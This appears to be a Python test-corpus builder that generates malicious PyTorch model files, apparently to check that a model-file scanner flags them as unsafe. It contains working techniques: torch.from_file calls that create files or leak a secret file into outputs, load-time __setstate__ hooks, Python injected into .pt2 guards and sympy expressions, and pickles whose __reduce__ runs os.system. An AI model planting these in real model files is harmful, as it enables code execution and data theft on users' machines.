"""TorchScript and torch.export files whose code touches files: ``torch.from_file`` (write and read),
``torch.save``, custom operator namespaces, prints, and the load-time paths (``__setstate__``, sympy
expressions and guards of a .pt2) that run before any forward. Plus legacy (non-zip) torch.save
streams with an evil pickle. Built the way an attacker would: scripted from Python source, or by
editing the zip of a benign archive."""
from __future__ import annotations

import json
import pickle
import re
import zipfile
from pathlib import Path

import torch

from tests.attacks.build_corpus import Attack


class FromFileWrite(torch.nn.Module):
    """forward maps (and so creates) a file of its choosing."""

    def __init__(self, path: str) -> None:
        super().__init__()
        self.path = path

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x + torch.from_file(self.path, True, 4).sum() * 0


class FromFileRead(torch.nn.Module):
    """forward copies a file's bytes into its output (exfiltration)."""

    def __init__(self, path: str, size: int) -> None:
        super().__init__()
        self.path, self.size = path, size

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        leak = torch.from_file(self.path, False, self.size, dtype=torch.uint8).to(torch.float32)
        return torch.cat([x.flatten(), leak])


class Outer(torch.nn.Module):
    def __init__(self, inner: torch.nn.Module) -> None:
        super().__init__()
        self.fc = torch.nn.Linear(4, 4)
        self.inner = inner

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.inner(self.fc(x))


class HelperMethod(torch.nn.Module):
    def __init__(self, path: str) -> None:
        super().__init__()
        self.path = path

    def _norm(self, x: torch.Tensor) -> torch.Tensor:
        return x - torch.from_file(self.path, True, 4).mean() * 0

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self._norm(x)


@torch.jit.script
def _scale(x: torch.Tensor, path: str) -> torch.Tensor:
    return x * (1 + torch.from_file(path, True, 4).sum() * 0)


class ScriptedFunction(torch.nn.Module):
    def __init__(self, path: str) -> None:
        super().__init__()
        self.path = path

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return _scale(x, self.path)


class SetState(torch.nn.Module):
    """Runs on torch.jit.load, before anyone calls forward."""

    def __init__(self, path: str) -> None:
        super().__init__()
        self.path, self.w = path, torch.ones(4)

    @torch.jit.export
    def __getstate__(self) -> tuple[str, torch.Tensor, bool]:
        return (self.path, self.w, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[str, torch.Tensor, bool]) -> None:
        self.path = state[0]
        self.w = state[1] + torch.from_file(state[0], True, 4).sum() * 0
        self.training = state[2]

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x * self.w


@torch.jit.script
class Calibration:
    """A TorchScript class (not a module) whose __setstate__ runs while data.pkl is unpickled."""

    def __init__(self, path: str) -> None:
        self.path = path
        self.scale = torch.ones(1)

    def __getstate__(self) -> tuple[str, torch.Tensor]:
        return (self.path, self.scale)

    def __setstate__(self, state: tuple[str, torch.Tensor]) -> None:
        self.path = state[0]
        self.scale = state[1] + torch.from_file(state[0], True, 4).sum() * 0


class HoldsClass(torch.nn.Module):
    def __init__(self, path: str) -> None:
        super().__init__()
        self.calibration = Calibration(path)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x * self.calibration.scale


class RareBranch(torch.nn.Module):
    """The file op sits in a branch no ordinary input (and no trace) takes."""

    def __init__(self, path: str) -> None:
        super().__init__()
        self.path = path

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        if bool(x.sum() == 1234.5):
            return x + torch.from_file(self.path, True, 4).sum()
        return torch.relu(x)


class SaveTensor(torch.nn.Module):
    def __init__(self, path: str) -> None:
        super().__init__()
        self.path = path

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        torch.save(x, self.path)
        return x


def _edit_zip(source: Path, target: Path, edit) -> Path:
    """Copy an archive, passing each member through ``edit(name, data) -> data``."""
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w") as dst:
        for item in src.infolist():
            dst.writestr(item, edit(item.filename, src.read(item.filename)))
    return target


def _edit_code(benign: Path, target: Path, before: str, after: str) -> Path:
    def edit(name: str, data: bytes) -> bytes:
        if "/code/" in name and name.endswith(".py") and before in data.decode():
            return data.decode().replace(before, after, 1).encode()
        return data
    return _edit_zip(benign, target, edit)


def _edit_program(source: Path, target: Path, change) -> Path:
    def edit(name: str, data: bytes) -> bytes:
        if name.endswith("models/model.json"):
            program = json.loads(data)
            change(program)
            return json.dumps(program).encode()
        return data
    return _edit_zip(source, target, edit)


def _legacy(path: Path, parts: list[bytes]) -> Path:
    path.write_bytes(b"".join(parts))
    return path


def build(out: Path, marker: str, benign: Path) -> list[Attack]:
    attacks: list[Attack] = []
    x = torch.randn(2, 4)

    def script(name: str, module: torch.nn.Module) -> None:
        torch.jit.save(torch.jit.script(module), out / name)
        attacks.append(Attack(name, out / name, "unsafe"))

    script("from_file_write.pt", FromFileWrite(marker))
    secret = out / "secret.txt"
    secret.write_text("api_key=SECRET-7f3a9c")
    script("from_file_read.pt", FromFileRead(str(secret), secret.stat().st_size))
    script("from_file_in_submodule.pt", Outer(FromFileWrite(marker)))
    script("from_file_in_helper_method.pt", HelperMethod(marker))
    script("from_file_in_scripted_function.pt", ScriptedFunction(marker))
    script("from_file_in_setstate.pt", SetState(marker))
    script("from_file_in_class_setstate.pt", HoldsClass(marker))
    script("from_file_in_untaken_branch.pt", RareBranch(marker))
    script("torch_save_in_forward.pt", SaveTensor(marker))

    # edits of a benign traced archive's code/ text, as an attacker with a zip tool would do
    forward = "    return "
    use = "    if bool(torch.gt(torch.sum(_pwn), 1.0e30)):\n      ops.prim.RaiseException(\"x\", None)\n    return "  # a use, so no DCE
    variants = {
        "edited_code_from_file.pt": f"    _pwn = torch.from_file({marker!r}, True, 4)\n" + use,
        "edited_code_method_call.pt": f"    _pwn = {marker!r}.from_file(True, 4)\n" + use,
        "edited_code_getattr.pt": f"    _pwn = getattr(torch, \"from_file\")({marker!r}, True, 4)\n" + use,
        "edited_code_ops_aten.pt": f"    _pwn = ops.aten.from_file({marker!r}, True, 4)\n" + use,
        "edited_code_custom_namespace.pt": f"    _pwn = ops.evil_lib.touch({marker!r})\n    return ",
        "edited_code_print.pt": f"    print({marker!r})\n    return ",
        "edited_code_torchbind_c10d.pt": "    _pwn = annotate(Optional[__torch__.torch.classes.dist_c10d.Store], None)\n    return ",
    }
    for name, text in variants.items():
        attacks.append(Attack(name, _edit_code(benign / "script.pt", out / name, forward, text), "unsafe"))

    # .pt2: a graph node retargeted to a file op, a sympy expression that is Python, a guard that is Python, native code
    def retarget(program: dict) -> None:
        node = program["graph_module"]["graph"]["nodes"][-1]
        node["target"] = "torch.ops.aten.from_file.default"

    def python_target(program: dict) -> None:
        program["graph_module"]["graph"]["nodes"][-1]["target"] = "torch.from_file"

    payload = f"__import__('os').system('touch {marker}')"

    def sympy_eval(program: dict) -> None:
        text = json.dumps(program)
        program.clear()
        evil = re.sub(r'"expr_str": "([^"]*)"', lambda m: json.dumps({"expr_str": f"{payload} or {m.group(1)}"})[1:-1], text)
        program.update(json.loads(evil))

    def guard(program: dict) -> None:
        program["guards_code"] = [f"{payload} == 0"]

    dynamic = out / "dynamic.pt2"
    batch = torch.export.Dim("batch", min=1, max=1024)
    net = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU()).eval()
    torch.export.save(torch.export.export(net, (x,), dynamic_shapes=({0: batch},)), dynamic)
    for name, source, change in (("pt2_node_from_file.pt2", benign / "program.pt2", retarget),
                                 ("pt2_node_python_callable.pt2", benign / "program.pt2", python_target),
                                 ("pt2_sympy_expression.pt2", dynamic, sympy_eval), ("pt2_guards_code.pt2", dynamic, guard)):
        attacks.append(Attack(name, _edit_program(source, out / name, change), "unsafe"))
    native = _edit_zip(benign / "program.pt2", out / "pt2_aotinductor_so.pt2", lambda n, d: d)
    with zipfile.ZipFile(native, "a") as archive:
        root = archive.namelist()[0].split("/")[0]
        archive.writestr(f"{root}/data/aotinductor/model/evil.so", b"\x7fELF" + b"\0" * 60)
    attacks.append(Attack(native.name, native, "unsafe"))
    dynamic.unlink()

    # legacy (non-zip) torch.save streams: the object pickle, or a header pickle, replaced by an evil one
    import os

    class Evil:
        def __reduce__(self):
            return (os.system, (f"touch {marker}",))

    legacy = out / "legacy_benign.pth"
    torch.save({"w": torch.ones(3)}, legacy, _use_new_zipfile_serialization=False)
    magic, protocol, info = (pickle.dumps(v, protocol=2) for v in (0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001}))
    evil = pickle.dumps(Evil(), protocol=2)
    keys = pickle.dumps([], protocol=2)
    attacks.append(Attack("legacy_evil_object.pth", _legacy(out / "legacy_evil_object.pth", [magic, protocol, info, evil, keys]), "unsafe"))
    attacks.append(Attack("legacy_evil_sys_info.pth", _legacy(out / "legacy_evil_sys_info.pth", [magic, protocol, evil, keys]), "unsafe"))
    legacy.unlink()
    return attacks
